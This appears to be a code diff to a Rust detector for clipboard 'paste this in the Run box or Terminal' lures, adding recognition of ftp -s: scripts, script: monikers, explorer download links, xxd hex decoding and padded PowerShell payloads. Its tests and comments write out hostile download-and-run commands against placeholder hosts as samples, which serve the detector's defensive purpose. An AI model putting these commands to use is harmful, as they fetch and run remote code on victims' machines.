@@ -88,6 +88,8 @@ pub enum Shape {
     Certutil,
     /// `bitsadmin /transfer`.
     Bitsadmin,
+    /// `ftp -s:FILE` with commands that fetch or run a program (`echo get r.exe>f&ftp -s:f`).
+    FtpScript,
     /// `curl.exe`/`wget` saving a URL to a Windows path and starting it
     /// (`curl.exe … -o %TEMP%\\x.exe & start %TEMP%\\x.exe`).
     DownloadStart,
@@ -122,6 +124,7 @@ impl Shape {
             Shape::ScriptHostUrl => "script_host_url",
             Shape::Certutil => "certutil_download",
             Shape::Bitsadmin => "bitsadmin_transfer",
+            Shape::FtpScript => "ftp_script",
             Shape::DownloadStart => "download_and_start",
             Shape::Base64Shell => "base64_to_shell",
             Shape::DownloadExec => "download_and_run",
@@ -1001,8 +1004,19 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if prog("msiexec") && has_url(flat) {
         out.push(Shape::MsiexecUrl);
     }
-    if (prog("wscript") || prog("cscript")) && has_url(flat) {
+    // (A `script:` moniker fetches a scriptlet and runs it, whatever runs the line: Windows'
+    // signed `pubprn.vbs 127.0.0.1 script:https://…`, thirty-ninth session.)
+    if (prog("wscript") || prog("cscript")) && has_url(flat) || has(flat, "script:http") {
         out.push(Shape::ScriptHostUrl);
+    }
+    // `ftp -s:FILE` runs the FTP commands in FILE: a lure writes them with `echo` (`open
+    // 203.0.113.7`, `get r.exe`, `!r.exe` runs it) or serves them from a share; an IT page's
+    // scripted upload names no program and no internet address (thirty-ninth session).
+    if prog("ftp")
+        && has(flat, " -s:")
+        && (has_url(flat) || public_ip_arg(&toks) || has(flat, ".exe") || has(flat, "!"))
+    {
+        out.push(Shape::FtpScript);
     }
     if prog("certutil")
         && ["urlcache", "decode", "decodehex", "verifyctl"]
@@ -1045,6 +1059,10 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let host = share_host(path);
     let runnable = runnable(path);
     let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
+    // (`explorer https://…/x.exe`: the browser opens to download a program and offers to run it.)
+    if at == 1 && !maps && has(path, "://") && runnable {
+        out.push(Shape::DownloadStart);
+    }
     // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
     if path.starts_with("\\\\")
         && (!maps && toks.len() <= 1 + at
@@ -1059,9 +1077,10 @@ fn shapes(flat: &str) -> Vec<Shape> {
 
     // Unix and macOS.
     let fetch = prog("curl") || prog("wget");
+    // (`xxd -r -p` turns hex back into the script as `base64 -d` does: thirty-ninth session.)
     let b64 = toks.windows(2).any(|w| {
         program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
-    });
+    }) || prog("xxd") && has(flat, " -r");
     let to_shell = piped_to_shell(flat)
         || runs_saved(flat)
         || ["sh", "bash", "zsh"].iter().any(|s| {
@@ -1171,6 +1190,7 @@ const ALL_SHAPES: &[Shape] = &[
     Shape::ScriptHostUrl,
     Shape::Certutil,
     Shape::Bitsadmin,
+    Shape::FtpScript,
     Shape::DownloadStart,
     Shape::Base64Shell,
     Shape::DownloadExec,
@@ -1187,7 +1207,8 @@ fn is_pad(c: char) -> bool {
 
 /// Splits `raw` at its longest run of padding that hides what follows: at least
 /// [`PAD_BEFORE_COMMENT`] before a `#`/`<#`/`::`/`rem` comment, or [`PAD_ANYWHERE`] anywhere
-/// between two parts. Returns (command before, text after) when found.
+/// between two parts. Returns (the command, text after) when found: the command is what comes
+/// before a comment, or the whole text when the padding hides no comment.
 fn split_padding(raw: &str) -> Option<(&str, &str)> {
     let mut best: Option<(usize, usize, usize)> = None; // (count, start, end) in bytes
     let mut run_start = None;
@@ -1217,7 +1238,10 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
         || rest
             .get(..4)
             .is_some_and(|p| p.eq_ignore_ascii_case("rem "));
-    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT).then_some((before, after))
+    // Blanks before the payload itself (`powershell` + 5,000 blanks + `-w h …`) hide no comment:
+    // the whole command is what it runs (thirty-ninth session).
+    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT)
+        .then_some((if comment { before } else { trim(raw) }, after))
 }
 
 /// Whether every address in `flat` is one an install page publishes: `https://` to a host name
@@ -2399,6 +2423,115 @@ mod tests {
     }
 
     #[test]
+    fn thirty_ninth_session_shapes_and_their_honest_twins() {
+        // Hex turned back into a script by `xxd -r -p`, as `base64 -d` does.
+        for cmd in [
+            "echo 6375726c | xxd -r -p | sh",
+            "echo 6375726c | xxd -p -r | bash",
+            "eval \"$(echo 6375726c | xxd -rp)\"",
+        ] {
+            assert_eq!(shapes_of(cmd), vec![Shape::Base64Shell], "{cmd}");
+        }
+        assert!(shapes_of("echo 48656c6c6f0a | xxd -r -p").is_empty());
+        assert!(shapes_of("xxd -r -p dump.hex > fw.bin && sha256sum fw.bin").is_empty());
+        // A `script:` moniker: Windows' signed pubprn.vbs fetches and runs a scriptlet.
+        let prn = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 \
+                   script:https://cdn.x.test/v.sct";
+        assert_eq!(shapes_of(prn), vec![Shape::ScriptHostUrl]);
+        assert!(judged(
+            prn,
+            "Press Win and R together, paste and press Enter."
+        ));
+        // An IT page publishing printers with it names an LDAP path, no moniker.
+        assert!(shapes_of(
+            "cscript pubprn.vbs \\\\printsrv01 \"LDAP://CN=Printers,DC=corp,DC=local\""
+        )
+        .is_empty());
+        // `ftp -s:` running commands that fetch or run a program; a scripted upload does not.
+        for cmd in [
+            "cmd /c \"echo open 203.0.113.7>%TEMP%\\f&echo get r.exe>>%TEMP%\\f&ftp -s:%TEMP%\\f&%TEMP%\\r.exe\"",
+            "cmd /c \"echo open ftp.x.test>a&echo !fix.exe>>a&ftp -i -s:a\"",
+            "ftp -s:\\\\198.51.100.14@80\\pub\\f.txt",
+        ] {
+            assert!(shapes_of(cmd).contains(&Shape::FtpScript), "{cmd}");
+        }
+        assert!(!shapes_of(
+            "echo open ftp.corp.test>up.txt&echo put report.csv>>up.txt&ftp -s:up.txt"
+        )
+        .contains(&Shape::FtpScript));
+        assert!(shapes_of("ftp -s:C:\\scripts\\upload.txt ftp.corp.test").is_empty());
+        // `explorer URL` of a program: the browser downloads it and offers to run it.
+        assert_eq!(
+            shapes_of("explorer https://dl.x.test/Viewer_Setup.exe"),
+            vec![Shape::DownloadStart]
+        );
+        assert!(shapes_of("explorer https://portal.corp.test/apps").is_empty());
+        assert!(shapes_of("start https://x.test/download?file=a.pdf").is_empty());
+    }
+
+    #[test]
+    fn padding_before_the_payload_shows_the_whole_command() {
+        let c = recognise(&format!(
+            "powershell{}-w h -c \"iwr https://p.x.test/c.ps1|iex\"",
+            " ".repeat(150)
+        ))
+        .expect("read");
+        assert!(c.padded);
+        assert!(c.shown.contains("p[.]x[.]test"), "{}", c.shown);
+        // Before a comment the command alone is shown, as before.
+        let c = recognise(&format!(
+            "powershell -enc SQBFAFgA{}# I am not a robot",
+            " ".repeat(40)
+        ))
+        .expect("read");
+        assert!(!c.shown.contains("robot"), "{}", c.shown);
+    }
+
+    #[test]
+    fn thirty_ninth_session_step_wordings() {
+        let irm = "powershell -c \"irm https://files.cdn-x.test/s.ps1 | iex\"";
+        let curl = "curl -fsSL https://cdn.macfix-x.test/u.sh | bash";
+        for (clip, text) in [
+            (
+                irm,
+                "Open the file: press Win and R together, then Ctrl and V, then Enter.",
+            ),
+            (
+                irm,
+                "Press the Windows and R keys at the same time, paste and press Enter.",
+            ),
+            (
+                curl,
+                "Open Finder → Applications → Utilities → Terminal. Paste and press Return.",
+            ),
+            (
+                curl,
+                "Launch the Terminal application, paste the command and press Return.",
+            ),
+            (
+                irm,
+                "Tekan tombol Windows dan R secara bersamaan, tempelkan, lalu tekan Enter.",
+            ),
+            (
+                irm,
+                "Buka kotak dialog Jalankan, tempelkan perintah dan tekan Enter.",
+            ),
+            (
+                curl,
+                "Buka aplikasi Terminal, tempelkan perintah lalu tekan Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // The same words on install docs that show their own site's command stay silent.
+        let own = "curl -fsSL https://get.tool.test/install.sh | sh";
+        let docs =
+            "Install Tool. Launch the Terminal application and paste the following command: \
+                    curl -fsSL https://get.tool.test/install.sh | sh";
+        assert!(assess(own, &PageHits::new([docs]).on("https://tool.test/install")).is_none());
+    }
+
+    #[test]
     fn windows_living_off_the_land() {
         assert_eq!(
             shapes_of("mshta https://x.example/verify.hta"),
@@ -3086,6 +3219,7 @@ mod tests {
         // run step.
         for text in [
             "Our course runs on Windows and R. Press Ctrl + V to paste the snippet.",
+            "Kursus kami memakai Windows dan R. Tekan Ctrl + V untuk menempel.",
             "The twin + R pack is sold out. Press Ctrl + V and Enter.",
             "Windows users: our keyboard shortcuts page lists many combinations, \
              for example Ctrl+R to reload. Press Ctrl + V and Enter.",
